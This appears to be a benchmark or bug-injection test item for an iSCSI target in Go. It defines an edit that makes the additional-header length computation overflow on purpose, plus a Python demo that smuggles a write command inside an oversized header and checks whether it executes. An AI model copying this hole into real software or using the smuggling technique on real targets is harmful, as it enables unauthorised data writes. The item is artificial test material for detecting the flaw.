id = "c13-ahs-overflow"
property = "C13"
edits = [("pkg/port/iscsit/cmd.go", "	m.AHSLen = int(data[4]) * 4", "	m.AHSLen = int(data[4] * 4)")]
needs = "a PDU with an additional header of 256 bytes or more"
breaks = "the length of the additional headers wraps, and their content is taken for the following PDUs"
demo = '''
s = Server([(1 << 20, 9)])
c = Conn(s)
c.ok(0, w10(3, 1), write=bytes([1]) * 512)
# a NOP-Out whose additional header holds what would be a write command
evil = bytearray(48); evil[0] = 0x41; evil[1] = 0xa0; evil[16:20] = be(0x99, 4); evil[20:24] = be(512, 4); evil[24:28] = be(c.cmdsn, 4); evil[32:42] = w10(3, 1); evil[5:8] = be(512, 3)
ahs = (bytes(evil) + bytes([9]) * 512)
ahs = ahs[:560] + bytes(1020 - 560)
b = bytearray(c.header(0, 0x80, imm=True)); b[20:24] = be(0xffffffff, 4); b[4] = 255
c.s.sendall(bytes(b) + ahs)
try:
    h, d = c.recv()
    check(h[0] == 0x20, "answered by %02x" % h[0])
except Closed:
    pass
k = Conn(s, isid=2)
check(k.ok(0, r10(3, 1), read=512) == bytes([1]) * 512, "the additional header was executed")
b = bytearray(c.header(0, 0x80, imm=True)); b[20:24] = be(0xffffffff, 4)
c.send(b)
try:
    h, d = c.recv()
    check(h[0] == 0x20, "answered by %02x" % h[0])
except Closed:
    check(False, "connection lost after a NOP-Out with a long additional header")
'''
